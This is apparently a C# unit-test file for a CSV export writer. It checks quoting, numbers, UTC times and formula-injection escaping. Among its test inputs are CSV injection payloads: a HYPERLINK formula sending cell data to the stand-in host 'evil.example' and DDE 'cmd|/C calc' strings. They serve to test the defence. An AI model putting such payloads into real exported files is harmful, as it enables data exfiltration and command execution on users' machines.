using System.Globalization;
using System.Text;
using LegalBot.Core.Export;
using LegalBot.Testing;

namespace LegalBot.Core.Tests.Export;

/// <summary>The CSV writer's output read back by a strict RFC 4180 reader, as a spreadsheet would open it.</summary>
public sealed class CsvWriterTests
{
    private static IReadOnlyList<IReadOnlyList<string>> RoundTrip(Action<CsvWriter> write)
    {
        var csv = new CsvWriter();
        write(csv);
        return Rfc4180.ParseUtf8WithBom(csv.ToBytes());
    }

    /// <summary>One cell written after another, in a record of its own, as read back.</summary>
    private static string Cell(Action<CsvWriter> write) => Assert.Single(Assert.Single(RoundTrip(c =>
    {
        write(c.Text("first"));
        c.EndRow();
    })).Skip(1));

    [Theory]
    [InlineData("plain")]
    [InlineData("comma, inside")]
    [InlineData("a \"quoted\" word")]
    [InlineData("\"")]
    [InlineData("two\r\nlines")]
    [InlineData("bare\nline feed")]
    [InlineData("bare\rreturn")]
    [InlineData("Müller & Søn — 法律")]
    [InlineData("emoji 📄 and a trailing space ")]
    [InlineData(" leading space")]
    [InlineData("")]
    public void Text_RoundTrips_Exactly(string text) => Assert.Equal(text, Cell(c => c.Text(text)));

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")")]
    [InlineData("=1+1")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("-5")]
    [InlineData("@SUM(A1:A2)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("=cmd|' /C calc'!A0, with a comma")]
    public void TextThatWouldStartAFormula_GetsAnApostrophe_AndOtherwiseRoundTrips(string text)
    {
        var cell = Cell(c => c.Text(text));

        Assert.Equal("'" + text, cell);
    }

    [Theory]
    [InlineData("a=1")]
    [InlineData("'=1 already quoted")]
    [InlineData("1-2")]
    [InlineData("x@y.example")]
    public void TextWithFormulaCharactersLaterOn_IsLeftAlone(string text) => Assert.Equal(text, Cell(c => c.Text(text)));

    [Fact]
    public void NegativeNumbers_StayNumbers()
    {
        var row = Assert.Single(RoundTrip(c => c.Number(-1234.5m).Number(-3).Number(-0.25, 2).EndRow()));

        Assert.Equal(["-1234.5", "-3", "-0.25"], row);
        Assert.All(row, cell => decimal.Parse(cell, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture));
    }

    [Fact]
    public void Numbers_UseTheInvariantCulture_WithoutGroupingOrTrailingZeros()
    {
        var row = Assert.Single(RoundTrip(c => c.Number(1234567.50m).Number(0m).Number(2.0 / 3, 2).Number((int?)null).EndRow()));

        Assert.Equal(["1234567.5", "0", "0.67", ""], row);
    }

    [Fact]
    public void Times_AreWrittenInUtc_AsExcelReadsThem()
    {
        var berlin = new DateTimeOffset(2026, 3, 29, 3, 30, 15, TimeSpan.FromHours(2));

        var row = Assert.Single(RoundTrip(c => c.Time(berlin).Date(new DateOnly(2026, 12, 31)).Time(null).EndRow()));

        Assert.Equal(["2026-03-29 01:30:15", "2026-12-31", ""], row);
        var parsed = DateTime.ParseExact(row[0], CsvWriter.TimeFormat, CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal | DateTimeStyles.AdjustToUniversal);
        Assert.Equal(berlin.UtcDateTime, parsed);
    }

    [Fact]
    public void TheFile_StartsWithTheUtf8ByteOrderMark_AndEndsEveryRecordWithCrLf()
    {
        var csv = new CsvWriter().Text("a").Text("b").EndRow().Text("ü").Text(null).EndRow();

        var bytes = csv.ToBytes();

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.Equal("a,b\r\nü,\r\n", Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3));
    }

    [Fact]
    public void ManyRows_RoundTrip_WithTheSameNumberOfFields()
    {
        var texts = new[] { "=x", "a,b", "q\"q", "line\r\nbreak", "-", "@", "plain" };

        var rows = RoundTrip(c =>
        {
            for (var i = 0; i < 50; i++)
            {
                c.Number(i).Text(texts[i % texts.Length]).Time(new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.Zero).AddHours(i)).EndRow();
            }
        });

        Assert.Equal(50, rows.Count);
        for (var i = 0; i < 50; i++)
        {
            var text = texts[i % texts.Length];
            Assert.Equal(CsvWriter.StartsFormula(text) ? "'" + text : text, rows[i][1]);
        }
    }

    [Theory]
    [InlineData("a,b\r\nc\r\n")]
    [InlineData("a,\"b\"c\r\n")]
    [InlineData("a,b")]
    [InlineData("a\nb\r\n")]
    [InlineData("a,\"b\r\n")]
    public void TheReader_IsStrict(string text) => Assert.Throws<FormatException>(() => Rfc4180.Parse(text));
}
